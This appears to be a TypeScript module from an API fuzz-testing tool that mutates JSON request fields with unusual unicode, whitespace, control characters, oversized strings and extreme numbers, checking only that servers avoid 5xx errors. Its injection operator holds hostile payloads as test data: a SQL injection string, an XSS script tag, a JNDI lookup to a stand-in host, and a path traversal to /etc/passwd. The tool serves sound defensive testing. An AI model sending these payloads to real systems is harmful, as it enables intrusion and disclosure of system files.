/**
 * Each field by its type: values no schema-derived case sends (unicode classes, injection-shaped
 * text, number forms past what I-JSON keeps exact). None is named by the descriptions, so every
 * case is open: judged for no 5xx and, when refused, the surface's error format.
 */
import { http, open } from '../build.ts';
import type { HttpOperator, HttpTarget } from '../types.ts';

type Leaf = { path: Array<string | number>; value: string | number };

/** Every string and number leaf of the base body, depth first. */
function leaves(value: unknown, path: Array<string | number> = [], out: Leaf[] = []): Leaf[] {
  if (typeof value === 'string' || typeof value === 'number') out.push({ path, value });
  else if (Array.isArray(value)) value.forEach((v, i) => leaves(v, [...path, i], out));
  else if (value && typeof value === 'object') for (const [k, v] of Object.entries(value)) leaves(v, [...path, k], out);
  return out;
}

function setAt(body: unknown, path: ReadonlyArray<string | number>, value: unknown): unknown {
  const copy = structuredClone(body) as Record<string | number, unknown>;
  let at = copy;
  for (const key of path.slice(0, -1)) at = at[key] as Record<string | number, unknown>;
  at[path[path.length - 1]!] = value;
  return copy;
}

/** The fields an operator acts on: the first of the type at `default` and `quick`, every one at `deep`. */
function fieldsOf(t: HttpTarget, type: 'string' | 'number'): Leaf[] {
  const all = leaves(t.base.json).filter((l) => typeof l.value === type && l.path.length > 0);
  return t.depth === 'deep' ? all : all.slice(0, 1);
}

function fieldOperator(id: string, type: 'string' | 'number', sends: string, peer: string, values: ReadonlyArray<readonly [string, (old: string | number) => unknown]>, why: string): HttpOperator {
  return {
    id,
    family: 'field',
    sends,
    peer,
    applies: (t) => fieldsOf(t, type).length > 0,
    cases: (t) =>
      fieldsOf(t, type).flatMap((leaf) =>
        values.map(([label, make]) => open(`${leaf.path.join('.')}: ${label}`, http(t, (r) => (r.json = setAt(t.base.json, leaf.path, make(leaf.value)))), why)),
      ),
  };
}

const keepLength = (text: string) => (old: string | number) => text.repeat(Math.max(1, Math.ceil(String(old).length / text.length))).slice(0, Math.max(text.length, String(old).length));

export const FIELDS: readonly HttpOperator[] = [
  fieldOperator('field.string.emoji', 'string', 'emoji and astral characters in a string, at the same length', 'CATS LeadingMultiCodePointEmojis / TrailingSingleCodePointEmojis', [['emoji', keepLength('🙂')], ['flag sequence', keepLength('🇪🇺')]], 'whether a bound counts code points or UTF-16 units is not stated'),
  fieldOperator('field.string.invisible', 'string', 'zero-width, bidi-override and combining characters inside a string', 'CATS ZeroWidthCharsInValues / AbugidasInStringFields', [['zero-width space', (o) => `${String(o).slice(0, 1)}\u200b${String(o).slice(1)}`], ['right-to-left override', (o) => `\u202e${String(o).slice(1)}`], ['combining mark', (o) => `${String(o).slice(0, 1)}\u0301${String(o).slice(1)}`]], 'the descriptions say nothing of invisible characters in free text'),
  fieldOperator('field.string.whitespace', 'string', 'a string that is only spaces, or padded with them', 'CATS OnlySpacesInFields / LeadingSpacesInFields / TrailingSpacesInFields', [['only spaces', keepLength(' ')], ['leading and trailing spaces', (o) => ` ${String(o)} `]], 'blank and padded text: refusing or trimming are both legal'),
  fieldOperator('field.string.control', 'string', 'C0 and C1 control characters inside a string', 'CATS WithinControlCharsInStringFields', [['C0 controls', (o) => `${String(o).slice(0, 1)}\u0001\u001b${String(o).slice(1)}`], ['C1 control', (o) => `${String(o).slice(0, 1)}\u0085${String(o).slice(1)}`]], 'the descriptions say nothing of control characters'),
  fieldOperator('field.string.injection', 'string', 'text shaped like SQL, markup, a template or a path traversal', 'CATS SqlInjection / XssInjection / CommandInjection fuzzers', [['SQL', () => "' OR '1'='1' --"], ['markup', () => '<script>alert(1)</script>'], ['template', () => '${jndi:ldap://apicert.invalid/a}{{7*7}}'], ['path traversal', () => '../../../../etc/passwd']], 'any answer but a server error is legal: these are plain text to the descriptions'),
  fieldOperator('field.string.huge', 'string', 'a string of 100,000 characters', 'CATS VeryLargeStrings; Schemathesis (maxLength walk)', [['100,000 characters', () => 'a'.repeat(100_000)]], 'a bound may be stated (then 400) or not (then 413, 400 or acceptance are legal)'),
  fieldOperator('field.number.extreme', 'number', 'numbers past what I-JSON keeps exact, and their edge forms', 'CATS ExtremePositiveNumbers / ExtremeNegativeNumbers / DecimalNumbers; I-JSON 2.2', [['1e308', () => 1e308], ['2^53', () => 2 ** 53], ['negative', (o) => -Math.abs(Number(o)) - 1], ['1.5', () => 1.5]], 'where a range is stated the schema cases judge it; these forms are judged for no 5xx'),
];
